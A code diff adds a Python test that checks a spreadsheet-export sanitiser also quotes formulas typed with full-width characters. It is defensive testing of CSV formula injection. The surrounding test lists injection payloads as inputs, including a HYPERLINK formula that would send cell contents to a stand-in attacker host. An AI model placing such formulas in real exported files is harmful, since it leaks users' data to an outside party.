@@ -70,6 +70,14 @@ def test_what_a_page_echoes_back_is_text(client, storage):
             assert got.headers["x-content-type-options"] == "nosniff"
 
 
+def test_a_formula_typed_full_width_is_quoted_too():
+    """What a Chinese input method types: a spreadsheet that folds full-width forms reads ＝ as =."""
+    from kiosk.domain.spreadsheet import safe_row
+
+    assert safe_row(["＝HYPERLINK(1)", "＋1", "－cmd", "＠SUM(A1)", "示范＝", -3.5]) == [
+        "'＝HYPERLINK(1)", "'＋1", "'－cmd", "'＠SUM(A1)", "示范＝", -3.5]
+
+
 def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(client, storage):
     formulas = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-cmd", "@SUM(A1:A9)")  # no control
     # characters: central refuses those in a name (tab and CR are safe_row's too, below)
